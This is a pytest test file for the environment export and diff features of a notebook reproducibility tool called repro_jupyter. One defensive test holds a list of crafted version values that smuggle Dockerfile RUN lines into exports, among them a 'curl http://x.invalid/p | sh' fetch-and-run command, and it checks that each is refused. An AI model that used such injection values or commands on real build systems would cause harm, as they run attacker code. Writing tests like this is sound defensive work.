"""Environment export and diff (the same diff code as verify's root causes)."""

from __future__ import annotations

import json

import nbformat

from repro_jupyter import METADATA_KEY
from repro_jupyter.environment.export import conda, dockerfile, requirements
from repro_jupyter.store import open_store

from .conftest import cli, make_notebook

ENV = {
    "python": {"version": "3.11.7"},
    "gpu": {"available": False},
    "packages": {
        "imported": {"numpy": "2.4.6", "torch": "2.13.0+cpu", "repro-jupyter": "0.1.0"},
        "installed": {"numpy": "2.4.6", "torch": "2.13.0+cpu", "six": "1.17.0"},
    },
}


def test_requirements_pin_imported_and_note_the_torch_index():
    text = requirements(ENV)
    assert "numpy==2.4.6" in text and "torch==2.13.0+cpu" in text and "six" not in text
    assert "--extra-index-url https://download.pytorch.org/whl/cpu" in text
    assert "repro-jupyter" not in text.split("\n", 2)[2]
    assert "six==1.17.0" in requirements(ENV, all_packages=True)


def test_conda_and_dockerfile():
    assert "python=3.11.7" in conda(ENV) and "      - numpy==2.4.6" in conda(ENV)
    docker = dockerfile(ENV)
    assert docker.splitlines()[1] == "FROM python:3.11.7-slim" and "requirements.txt" in docker


def test_export_and_diff_cli(tmp_path, capsys):
    src = make_notebook(tmp_path / "e.ipynb", ["import numpy as np\nprint(np.__version__)"])
    assert cli("run", src, "-q") == 0
    out = tmp_path / "requirements.txt"
    assert cli("env", "export", src, "-o", out) == 0
    assert "numpy==" in out.read_text()
    assert cli("env", "diff", src, src) == 0
    assert "same environment" in capsys.readouterr().out
    # plant a changed environment: a copy of the recorded one with another numpy version
    store = open_store(tmp_path, create=False)
    env = store.objects.get_json(nbformat.read(src, 4).metadata[METADATA_KEY]["environment"])
    env["packages"]["imported"]["numpy"] = "1.26.4"
    digest, _ = store.objects.put_json(env)
    assert cli("env", "diff", src, digest, "--json") == 1
    diff = json.loads(capsys.readouterr().out)
    assert diff["packages"][0]["key"] == "numpy" and diff["packages"][0]["new"] == "1.26.4"
    assert cli("env", "diff", src, "current") in (0, 1)


INJECTIONS = [
    ("python", "version", "3.11.7 AS base\nRUN echo pwned #"),
    ("python", "version", "3.11\n"),  # Python's `$` matches before a final newline: the schema's must not
    ("packages", "imported", {"numpy": "2.4.6\nRUN curl http://x.invalid/p | sh #"}),
    ("packages", "imported", {"numpy\nRUN id": "2.4.6"}),
    ("packages", "installed", {"six": "1.17.0 ; os_name == 'posix'"}),
]


def test_a_crafted_environment_is_refused_by_every_reader_in_one_line(tmp_path, capsys):
    """A committed `.repro` or a team store can hold an environment whose version fields carry
    Dockerfile or shell lines: export and show refuse it (exit 2, one line) and emit nothing of it."""
    src = make_notebook(tmp_path / "e.ipynb", ["import numpy as np\nprint(np.__version__)"])
    assert cli("run", src, "-q") == 0
    store = open_store(tmp_path, create=False)
    nb = nbformat.read(src, 4)
    recorded = store.objects.get_json(nb.metadata[METADATA_KEY]["environment"])
    for section, key, value in INJECTIONS:
        env = json.loads(json.dumps(recorded))
        env[section][key] = value
        digest, _ = store.objects.put_json(env)
        nb.metadata[METADATA_KEY]["environment"] = digest
        crafted = tmp_path / "crafted.ipynb"
        nbformat.write(nb, crafted)
        capsys.readouterr()
        for argv in (
            ("env", "export", crafted, "--format", "dockerfile"),
            ("env", "export", crafted, "--format", "requirements"),
            ("env", "export", crafted, "--format", "conda"),
            ("env", "diff", crafted, src),
            ("show", crafted),
        ):
            code = cli(*argv)
            out, err = capsys.readouterr()
            assert "RUN" not in out and "pwned" not in out and "os_name" not in out, (argv, value, out)
            if argv[0] == "show":  # show lists what it could not read and goes on
                assert code in (0, 2) and "not a valid environment" in out + err, (value, out, err)
            else:
                assert code == 2 and len(err.strip().splitlines()) == 1, (argv, value, err)
                assert "not a valid environment" in err, err


def test_a_distribution_installed_twice_reports_the_copy_that_is_imported(tmp_path, monkeypatch):
    """A trial venv layered over another (explain) holds tinypkg 1.0 first on sys.path and 2.0 behind
    it: the environment records 1.0, what `import` and importlib.metadata.version see (before: 2.0)."""
    import importlib.metadata
    import sys

    from repro_jupyter.environment import packages

    for folder, version in (("front", "1.0"), ("back", "2.0")):
        info = tmp_path / folder / f"tinypkg-{version}.dist-info"
        info.mkdir(parents=True)
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: tinypkg\nVersion: {version}\n")
    monkeypatch.setattr(sys, "path", [str(tmp_path / "front"), str(tmp_path / "back"), *sys.path])
    packages.installed_distributions.cache_clear()
    try:
        assert importlib.metadata.version("tinypkg") == "1.0"
        assert packages.installed_distributions()["tinypkg"] == "1.0"
    finally:
        packages.installed_distributions.cache_clear()
